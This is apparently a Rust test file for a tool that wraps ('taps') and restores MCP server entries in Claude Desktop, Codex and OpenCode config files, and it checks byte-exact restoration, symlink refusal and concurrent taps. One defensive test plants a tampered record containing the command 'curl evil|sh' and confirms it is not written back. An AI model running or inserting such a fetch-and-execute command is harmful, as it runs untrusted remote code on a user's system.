//! Tap and untap against real files: JSON with comments, Codex's TOML,
//! a host not tapped in place, taps at once, a record not taken at its word.

use super::*;

/// Tap `fs` of the file at `path` (its command `npx -y server-fs /tmp`,
/// its env `A=1`): the entry runs the tap with its command after `--`, the
/// rest of it kept. The file's text tapped.
fn tap_fs(records: &Path, path: &Path) -> String {
    tap(records, path, "fs", "/usr/bin/mcpwb").unwrap();
    let tapped = std::fs::read_to_string(path).unwrap();
    let e = entry(path, &tapped, "fs").unwrap();
    assert_eq!(e["command"], "/usr/bin/mcpwb");
    assert_eq!(
        e["args"],
        json!([
            "tap",
            "--name=fs",
            "--keep",
            "--",
            "npx",
            "-y",
            "server-fs",
            "/tmp"
        ])
    );
    assert_eq!(e["env"]["A"], "1");
    assert!(is_tapped(&e));
    tapped
}

/// `fs` tapped again, the file changed elsewhere after (`from` to `to`),
/// then untapped: the file's text then.
fn untapped_after_a_change(records: &Path, path: &Path, (from, to): (&str, &str)) -> String {
    tap(records, path, "fs", "/usr/bin/mcpwb").unwrap();
    let edited = std::fs::read_to_string(path).unwrap().replace(from, to);
    std::fs::write(path, &edited).unwrap();
    untap(records, path, "fs").unwrap();
    std::fs::read_to_string(path).unwrap()
}

/// A host whose entries are not tapped in place (OpenCode's command
/// list) says so and how, and its file is left as it is.
#[test]
fn an_opencode_entry_is_not_tapped_in_place() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("tapped-hosts.json");
    let path = dir.path().join("opencode.json");
    let text =
        "{ \"mcp\": { \"fs\": { \"type\": \"local\", \"command\": [\"npx\", \"server-fs\"] } } }\n";
    std::fs::write(&path, text).unwrap();
    let e = tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap_err();
    assert!(
        e.to_string()
            .contains("run `mcpwb tap --name fs -- COMMAND ARGS…`"),
        "{e}"
    );
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
}

/// Codex's `config.toml`: the same tap and untap, its TOML kept byte
/// for byte around the one table's `command` and `args`.
#[test]
fn a_codex_server_is_tapped_and_untapped_in_its_toml() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("tapped-hosts.json");
    let path = dir.path().join("config.toml");
    let original = "# mine\nmodel = \"gpt-5-codex\"\n\n[mcp_servers.fs]\ncommand = \"npx\" # launcher\nargs = [\"-y\", \"server-fs\", \"/tmp\"]\n\n[mcp_servers.fs.env]\nA = \"1\"\n\n[mcp_servers.web]\nurl = \"https://x.example/mcp\"\n";
    std::fs::write(&path, original).unwrap();
    let listed = entries(&records, &path).unwrap();
    assert_eq!(
        listed
            .iter()
            .map(|e| (e.name.as_str(), e.remote))
            .collect::<Vec<_>>(),
        [("fs", false), ("web", true)]
    );
    let tapped = tap_fs(&records, &path);
    assert!(tapped.starts_with("# mine\n"), "{tapped}");
    assert!(entries(&records, &path).unwrap()[0].tapped);
    untap(&records, &path, "fs").unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
    // Changed after the tap: only the entry goes back.
    let back = untapped_after_a_change(&records, &path, ("gpt-5-codex", "o4-mini"));
    let e = entry(&path, &back, "fs").unwrap();
    assert_eq!(e["command"], "npx");
    assert!(back.contains("o4-mini"), "{back}");
}

#[test]
fn tap_then_untap_gives_the_bytes_back() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("tapped-hosts.json");
    let path = dir.path().join("claude_desktop_config.json");
    let original = "{\n  // mine\n  \"mcpServers\": {\n    \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"server-fs\", \"/tmp\"], \"env\": {\"A\": \"1\"} },\n    \"web\": { \"url\": \"https://x.example/mcp\" }\n  },\n  \"other\": true\n}\n";
    std::fs::write(&path, original).unwrap();
    let tapped = tap_fs(&records, &path);
    assert!(tapped.contains("// mine") && tapped.contains("\"other\": true"));
    let again = tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap_err();
    assert!(again.to_string().contains("already"), "{again}");
    let remote = tap(&records, &path, "web", "/usr/bin/mcpwb").unwrap_err();
    assert!(
        remote
            .to_string()
            .contains("mcpwb tap --to https://x.example/mcp"),
        "{remote}"
    );
    untap(&records, &path, "fs").unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
    // Changed after the tap: only the entry goes back.
    assert_eq!(
        untapped_after_a_change(&records, &path, ("\"other\": true", "\"other\": false")),
        original.replace("\"other\": true", "\"other\": false")
    );
    assert!(untap(&records, &path, "fs").is_err());
    // Never through a link.
    let link = dir.path().join("link.json");
    std::os::unix::fs::symlink(&path, &link).unwrap();
    let refused = tap(&records, &link, "fs", "/usr/bin/mcpwb").unwrap_err();
    assert!(refused.to_string().contains("symbolic link"), "{refused}");
}

/// The review's plays: Untap after the person deleted the entry brought
/// it back; an entry named like a flag was tapped into a command that
/// no longer started; a planted record's `before` was written back
/// wholesale; a relative path was another folder's file.
/// Taps of four hosts' files at once (the window, `mcpwb`): each keeps
/// its way back, and each untaps to the bytes it had.
#[test]
fn taps_at_once_each_keep_their_way_back() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("tapped-hosts.json");
    let original =
        "{ \"mcpServers\": { \"fs\": { \"command\": \"npx\", \"args\": [\"server-fs\"] } } }\n";
    let host = |w: usize| dir.path().join(format!("host-{w}.json"));
    for w in 0..4 {
        std::fs::write(host(w), original).unwrap();
    }
    let (at, rec) = (dir.path().to_owned(), records.clone());
    crate::tests::at_once(4, move |w| {
        let path = at.join(format!("host-{w}.json"));
        tap(&rec, &path, "fs", "/usr/bin/mcpwb").unwrap();
    });
    assert_eq!(Records::load(&records).unwrap().tapped.len(), 4);
    for w in 0..4 {
        untap(&records, &host(w), "fs").unwrap();
        assert_eq!(std::fs::read_to_string(host(w)).unwrap(), original);
    }
}

#[test]
fn untap_takes_the_file_not_the_record_at_its_word() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("tapped-hosts.json");
    let path = dir.path().join("claude_desktop_config.json");
    let original = r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "server-fs"]}, "-x": {"command": "uvx", "args": ["thing"]}}}"#;
    std::fs::write(&path, original).unwrap();
    // A name like a flag stays one argument.
    tap(&records, &path, "-x", "/usr/bin/mcpwb").unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert_eq!(
        entry(&path, &text, "-x").unwrap()["args"],
        json!(["tap", "--name=-x", "--keep", "--", "uvx", "thing"])
    );
    assert_eq!(untap(&records, &path, "-x").unwrap(), Untapped::Back);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
    // Deleted by the person after the tap: it stays deleted.
    tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
    let without = r#"{"mcpServers": {"-x": {"command": "uvx", "args": ["thing"]}}}"#;
    std::fs::write(&path, without).unwrap();
    assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Gone);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), without);
    assert!(Records::load(&records).unwrap().tapped.is_empty());
    // A planted record: its `after` is the file, its `before` anything.
    std::fs::write(&path, original).unwrap();
    tap(&records, &path, "fs", "/usr/bin/mcpwb").unwrap();
    let mut all = Records::load(&records).unwrap();
    all.tapped[0].before =
        r#"{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "curl evil|sh"]}}}"#.into();
    all.tapped[0].command = json!("sh");
    all.tapped[0].args = json!(["-c", "curl evil|sh"]);
    all.save(&records).unwrap();
    assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
    let back = std::fs::read_to_string(&path).unwrap();
    assert!(!back.contains("evil"), "{back}");
    assert_eq!(entry(&path, &back, "fs").unwrap()["command"], "npx");
    assert_eq!(
        entry(&path, &back, "fs").unwrap()["args"],
        json!(["-y", "server-fs"])
    );
    // A file reached through a linked folder is recorded as its real one.
    let linked = dir.path().join("linked");
    std::os::unix::fs::symlink(dir.path(), &linked).unwrap();
    tap(
        &records,
        &linked.join("claude_desktop_config.json"),
        "fs",
        "/usr/bin/mcpwb",
    )
    .unwrap();
    assert_eq!(
        Records::load(&records).unwrap().tapped[0].path,
        record_key(&path)
    );
    assert_eq!(untap(&records, &path, "fs").unwrap(), Untapped::Back);
}
